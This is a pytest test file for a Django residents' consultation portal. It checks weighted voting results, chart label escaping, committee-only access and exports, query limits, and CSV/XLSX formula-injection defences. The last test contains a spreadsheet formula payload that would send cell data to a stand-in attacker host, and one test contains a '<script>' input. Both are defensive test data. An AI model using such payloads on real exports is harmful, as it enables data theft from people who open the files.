"""Results: live for the committee, public after the close, weighted exactly, exported, and
rendered in a bounded number of queries however many people responded."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
import time_machine
from openpyxl import load_workbook

from benchmarks.activity import bulk_responses
from consultations import actions, results
from portal.community.actions import link_identity
from tests.consultations.conftest import question, section, valid_answers
from tests.factories import OwnerIdentityFactory, OwnershipFactory, UnitFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def co_owner(world_a):
    """刘洋 owns half of 1栋 202 (99.99 ㎡) and all of 1栋 203 (100.01 ㎡)."""
    building = world_a.building1_unit.building
    shared = UnitFactory(building=building, number="202", floor=2, exclusive_area=Decimal("99.99"))
    whole = UnitFactory(building=building, number="203", floor=2, exclusive_area=Decimal("100.01"))
    user = UserFactory(display_name="刘洋")
    identity = OwnerIdentityFactory(estate=world_a.estate, name="刘洋", mobile=user.phone)
    OwnershipFactory(unit=shared, identity=identity, share=Decimal("0.5"))
    OwnershipFactory(unit=whole, identity=identity)
    link_identity(identity, user, how="test")
    return user


def test_weighted_results_are_exact_by_units_and_by_exclusive_area(
    consultation, owner, owner_building1, co_owner
):
    single = question(consultation, "single")
    for user, choice in ((owner, "1"), (owner_building1, "2"), (co_owner, "1")):
        answers = valid_answers(consultation) | {single.pk: choice}
        actions.submit_response(consultation, user, answers=answers, opinions={})
    figures = results.compute(consultation, show_names=False)
    assert figures.respondents == 3
    assert figures.units == Decimal("3.5")
    assert figures.area == Decimal("120.50") + Decimal("88.00") + Decimal("49.995") + Decimal(
        "100.01"
    )
    agree, against, _indifferent = figures.questions[0].options
    assert (agree.count, agree.units, agree.area) == (2, Decimal("2.5"), Decimal("270.505"))
    assert (against.count, against.units, against.area) == (1, Decimal("1"), Decimal("88"))
    scale = figures.questions[2]
    assert scale.mean == Decimal("4.00")


def test_charts_are_svg_drawn_on_the_server_with_escaped_labels(consultation_index, owner):
    from tests.consultations.conftest import make_consultation

    tricky = make_consultation(
        consultation_index,
        questions=[{"kind": "single", "text": "选 <b>哪个</b>", "choices": "<script>甲\n乙"}],
    )
    actions.submit_response(tricky, owner, answers={tricky.questions.get().pk: "1"}, opinions={})
    chart = results.compute(tricky, show_names=False).questions[0].chart
    assert chart.startswith("<svg") and "<script>" not in chart and "&lt;script&gt;甲" in chart
    assert "1 人 · 100.0%" in chart


def test_owners_see_results_only_after_the_close_and_the_committee_sees_them_live(
    client, consultation, owner, committee_chair
):
    actions.submit_response(consultation, owner, answers=valid_answers(consultation), opinions={})
    url = consultation.subpage_url("results")
    client.force_login(owner)
    assert client.get(url).status_code == 403
    client.force_login(committee_chair)
    live = client.get(url).content.decode()
    assert "实时数据，仅业主委员会可见" in live and "1 / 1" in live  # respondents / owners
    with time_machine.travel(consultation.closes_at + timedelta(hours=1)):
        client.force_login(owner)
        public = client.get(url)
    assert public.status_code == 200
    assert "<svg" in public.content.decode()


def test_the_results_page_keeps_text_answers_apart_and_names_hidden(
    client, consultation, owner, owner_building1
):
    actions.submit_response(
        consultation,
        owner,
        answers=valid_answers(consultation),
        opinions={section(consultation, 2).anchor: "车位应抽签。"},
    )
    client.force_login(owner_building1)
    with time_machine.travel(consultation.closes_at + timedelta(hours=1)):
        html = client.get(consultation.subpage_url("results")).content.decode()
    article = html[html.index("<article") : html.index("</article>")]
    assert "希望增加充电桩。" in article and "车位应抽签。" in article
    assert "参与人 1" in article and "王" not in article


def test_exports_are_for_the_committee_csv_with_bom_and_xlsx(
    client, consultation, owner, committee_chair
):
    actions.submit_response(
        consultation,
        owner,
        answers=valid_answers(consultation),
        opinions={section(consultation, 2).anchor: "车位<b>应抽签</b>。"},
    )
    client.force_login(owner)
    assert client.get(consultation.subpage_url("results_csv")).status_code == 403
    client.force_login(committee_chair)
    raw = client.get(consultation.subpage_url("results_csv")).content
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:6] == ["序号", "参与人", "提交时间", "最后修改", "户数", "面积（㎡）"]
    assert rows[1][1] == "王芳" and rows[1][4:6] == ["1", "120.50"]
    assert "赞成" in rows[1] and "停车；装修" in rows[1] and "车位应抽签。" in rows[1]
    xlsx = client.get(consultation.subpage_url("results_xlsx"))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert [cell.value for cell in sheet[2]][:2] == [1, "王芳"]


@pytest.mark.parametrize("name", ["outsider", "property_manager", "tenant"])
def test_the_committee_pages_refuse_everyone_else(client, consultation, request, name):
    client.force_login(request.getfixturevalue(name))
    for route in ("handling", "results", "results_xlsx"):
        assert client.get(consultation.subpage_url(route)).status_code == 403


def test_a_members_only_consultation_refuses_an_outsider(client, consultation_index, outsider):
    from tests.consultations.conftest import make_consultation

    members_only = make_consultation(consultation_index, visibility="members")
    client.force_login(outsider)
    assert client.get(members_only.url).status_code == 403


def test_results_of_two_thousand_responses_render_in_a_bounded_number_of_queries(
    client, consultation, committee_chair, django_assert_max_num_queries
):
    bulk_responses(consultation, 2000)
    client.force_login(committee_chair)
    url = consultation.subpage_url("results")
    client.get(url)  # warm the per-process caches (site root, content types)
    # ~27 are routing, session, roles, header and the editor's userbar; the results
    # themselves take 10 (see results.compute): none depends on the number of responses.
    with django_assert_max_num_queries(40):
        response = client.get(url)
    html = response.content.decode()
    assert "2000 人作答" in html
    assert "显示前 100 条，共 667 条" in html
    with (
        time_machine.travel(consultation.closes_at + timedelta(hours=1), tick=True),
        django_assert_max_num_queries(40),
    ):
        report = client.get(consultation.subpage_url("report"))
    assert "意见 1999" in report.content.decode()  # the report lists every opinion


def test_an_opinion_shaped_like_a_formula_reaches_the_exports_as_text(
    client, consultation, owner, committee_chair
):
    formula = '=HYPERLINK("http://evil.example/?d="&B2,"查看详情")'
    actions.submit_response(
        consultation,
        owner,
        answers=valid_answers(consultation),
        opinions={section(consultation, 2).anchor: formula},
    )
    client.force_login(committee_chair)
    raw = client.get(consultation.subpage_url("results_csv")).content
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert any("HYPERLINK" in cell and cell.startswith("'=") for cell in cells)

    xlsx = client.get(consultation.subpage_url("results_xlsx")).content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value for c in cells)
